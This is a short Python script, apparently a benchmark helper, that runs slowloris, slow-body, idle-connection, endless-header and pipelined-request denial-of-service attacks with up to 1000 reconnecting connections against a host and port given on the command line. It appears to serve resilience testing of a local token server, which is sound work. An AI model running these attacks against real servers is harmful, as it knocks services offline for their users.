"""An attack without a token: a process of its own, from another address of this machine, until it is told to end.

`python -m benchmarks.attack KIND HOST PORT` prints a line when its first connections stand. Whoever is closed comes
again some seconds later, as the usual tools do.
"""

import asyncio
import resource
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

SOURCE = "127.0.0.2"
MANY = 1000
FEW = 4
_PAUSE_S = 1.0
_AGAIN_S = 5.0
_HEAD = b"POST /oauth2/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
_AHEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 1000

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def send_endless_header(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_HEAD + b"X: ")
    while True:
        writer.write(b"a" * 65_536)
        await writer.drain()


async def send_slow_head(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_HEAD + b"X: ")
    await _trickle(writer)


async def stay_idle(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
    await reader.read()


async def send_slow_body(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_HEAD + b"Content-Length: 3000\r\n\r\n")
    await _trickle(writer)


async def send_ahead(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_AHEAD)
    await reader.read()


async def _trickle(writer: asyncio.StreamWriter) -> None:
    while not writer.transport.is_closing():
        writer.write(b"a")
        await writer.drain()
        await asyncio.sleep(_PAUSE_S)


ATTACKS: dict[str, tuple[int, Attack]] = {
    "an endless header": (FEW, send_endless_header),
    "slowloris": (MANY, send_slow_head),
    "idle connections": (MANY, stay_idle),
    "slow bodies": (MANY, send_slow_body),
    "requests sent ahead": (FEW, send_ahead),
}


async def attack(kind: str, host: str, port: int) -> None:
    count, hurt = ATTACKS[kind]
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(_keep_on(hurt, host, port))
        await asyncio.sleep(_PAUSE_S)
        print(f"{count} connections", flush=True)


async def _keep_on(hurt: Attack, host: str, port: int) -> None:
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port, local_addr=(SOURCE, 0))
            try:
                await hurt(reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(_AGAIN_S)


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(attack(sys.argv[1], sys.argv[2], int(sys.argv[3])))
